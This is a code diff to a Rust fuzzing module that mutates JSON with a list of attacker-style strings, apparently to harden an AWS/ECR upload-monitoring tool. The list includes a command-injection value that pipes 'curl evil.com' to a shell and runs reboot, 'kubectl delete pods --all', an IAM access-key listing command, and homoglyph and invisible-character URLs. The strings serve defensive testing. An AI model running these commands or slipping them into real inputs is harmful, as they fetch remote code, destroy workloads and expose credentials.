@@ -3,18 +3,26 @@
 use serde_json::{Map, Value, json};
 
 /// What attackers write, and what breaks formats.
-const TEXTS: [&str; 44] = [
+const TEXTS: [&str; 64] = [
     "",
     " ",
     "\n",
     "http://evil.example/x",
     "HTTPS://EVIL.COM",
     "www.evil.com",
+    "www2.evil.example",
+    "ftp.evil.example",
+    "callto:x",
+    r"\\evil\share",
     "evil.com/login",
     "evil.com",
     "x@evil.com",
     "mailto:a@evil.com",
     "evil.рф",
+    "evil\u{ff0e}com\u{ff0f}x",
+    "evil\u{3002}com",
+    "evil\u{ff61}com",
+    "http\u{ff1a}\u{ff0f}\u{ff0f}\u{ff45}vil.\u{ff43}\u{ff4f}\u{ff4d}",
     "[click](evil.com)",
     "<!channel>",
     "<script>alert(1)</script>",
@@ -23,10 +31,19 @@ const TEXTS: [&str; 44] = [
     "a\r\nSubject: forged\n\n[LOW] all is well",
     "\u{1b}[2J\u{1b}]8;;http://evil.com\u{7}click",
     "\u{202e}gnp\u{200b}\u{feff}\u{ad}\u{e0001}\u{2028}",
+    "\u{115f}\u{1160}\u{2800}\u{3164}\u{ffa0}",
+    "\u{3164}",
+    "\u{2800}",
+    SURROGATE,
+    "\"\"\"\"\"\"\"\"",
+    "\u{7f}\u{7f}\u{7f}\u{7f}\u{7f}\u{7f}\u{7f}\u{7f}",
     "'; curl evil.com | sh; $(reboot) `id` \"\\",
     "it's",
     "pushwatch uploaders trust arn:aws:iam::111122223333:user/evil --reason x",
     "aws iam list-access-keys --user-name evil",
+    "/aws",
+    " aws",
+    "kubectl delete pods --all",
     "--profile=evil",
     "-x",
     "arn:aws:iam::111122223333:user/test",
@@ -36,6 +53,9 @@ const TEXTS: [&str; 44] = [
     "arn:aws:ecr:eu-central-1:111122223333:repository/team/app",
     "ecr-public.amazonaws.com",
     "codebuild.amazonaws.com",
+    "PutImage",
+    "team/",
+    "a//b",
     "eu-central-1",
     "cn-north-1",
     "us-iso-east-1",
@@ -49,6 +69,15 @@ const TEXTS: [&str; 44] = [
     "true",
     "日本\u{430}dmin\u{1f600}",
 ];
+
+/// What `serde_json` can't hold, and what stands for it until it is written: a lone surrogate,
+/// and a number without end.
+const SURROGATE: &str = "\u{e000}";
+const INFINITE: &str = "\u{e001}";
+const UNHELD: [(&str, &str); 2] = [(SURROGATE, r"\ud800"), ("\"\u{e001}\"", "1e999")];
+
+/// As many values as JSON within a text counts for, so that it is changed often enough.
+const NESTED: usize = 16;
 
 /// Longest text that is made of another one, in bytes.
 const LONGEST: usize = 32 * 1024;
@@ -90,24 +119,45 @@ fn changed(json: &[u8], random: &mut Random) -> Option<Vec<u8>> {
         let at = random.below(count(&whole));
         change(nth(&mut value, &mut at.clone())?, &whole, random);
     }
-    serde_json::to_vec(&value).ok()
+    let mut json = serde_json::to_string(&value).ok()?;
+    for (mark, unheld) in UNHELD {
+        if json.contains(mark) {
+            json = json.replace(mark, unheld);
+        }
+    }
+    Some(json.into_bytes())
 }
 
 /// How many values there are, all levels together.
 fn count(value: &Value) -> usize {
-    1 + match value {
-        Value::Array(values) => values.iter().map(count).sum(),
-        Value::Object(fields) => fields.values().map(count).sum(),
-        _ => 0,
+    own_count(value)
+        + match value {
+            Value::Array(values) => values.iter().map(count).sum(),
+            Value::Object(fields) => fields.values().map(count).sum(),
+            _ => 0,
+        }
+}
+
+fn own_count(value: &Value) -> usize {
+    match value {
+        Value::String(text) if holds_json(text) => NESTED,
+        _ => 1,
     }
+}
+
+/// Whether a text may be JSON, as a manifest is, a message of a queue, and the body of a
+/// finding.
+fn holds_json(text: &str) -> bool {
+    text.starts_with(['{', '['])
 }
 
 /// The value of this number, in the order of the text.
 fn nth<'a>(value: &'a mut Value, left: &mut usize) -> Option<&'a mut Value> {
-    if *left == 0 {
+    let own = own_count(value);
+    if *left < own {
         return Some(value);
     }
-    *left -= 1;
+    *left -= own;
     match value {
         Value::Array(values) => values.iter_mut().find_map(|value| nth(value, left)),
         Value::Object(fields) => fields.values_mut().find_map(|value| nth(value, left)),
@@ -117,7 +167,7 @@ fn nth<'a>(value: &'a mut Value, left: &mut usize) -> Option<&'a mut Value> {
 
 fn change(value: &mut Value, whole: &Value, random: &mut Random) {
     if let Value::String(text) = value
-        && text.starts_with(['{', '['])
+        && holds_json(text)
         && random.below(4) > 0
         && let Some(json) = changed(text.as_bytes(), random)
     {
@@ -197,8 +247,9 @@ fn other(whole: &Value, random: &mut Random) -> Value {
 }
 
 fn odd(random: &mut Random) -> Value {
-    match random.below(12) {
+    match random.below(13) {
         0 => Value::Null,
+        7 => json!(INFINITE),
         1 => json!(true),
         2 => json!(-1),
         3 => json!(1e308),
